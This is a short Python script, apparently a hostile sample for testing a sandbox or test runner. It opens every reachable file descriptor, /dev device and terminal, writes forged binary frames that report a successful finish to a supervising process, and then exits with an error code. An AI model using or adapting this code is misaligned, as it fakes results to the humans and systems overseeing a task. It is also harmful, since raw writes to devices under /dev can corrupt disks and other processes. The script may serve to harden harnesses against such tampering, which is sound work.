"""Writes reports of a good end to whatever it can reach, and then ends badly."""
import glob
import os

ENDED = b"X" + (44).to_bytes(4, "big") + bytes(44)
FORGED = [ENDED, b"T\x00\x00\x00\x01\x0f", b"O\x00\x00\x00\x05hello" + ENDED, b"\x01\x00\x00\x00\x00\x00\x00\x31" + ENDED]
mine = {os.stat(stream)[:2] for stream in (1, 2)}
for path in sorted(glob.glob("/proc/*/fd/*") + glob.glob("/dev/*") + glob.glob("/dev/pts/*")):
    try:
        target = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        continue
    if os.fstat(target)[:2] not in mine:
        for frame in FORGED:
            try:
                os.write(target, frame)
            except OSError:
                pass
    os.close(target)
for number in range(256):
    if number != 2:
        for frame in FORGED:
            try:
                os.write(number, frame)
            except OSError:
                pass
os._exit(3)
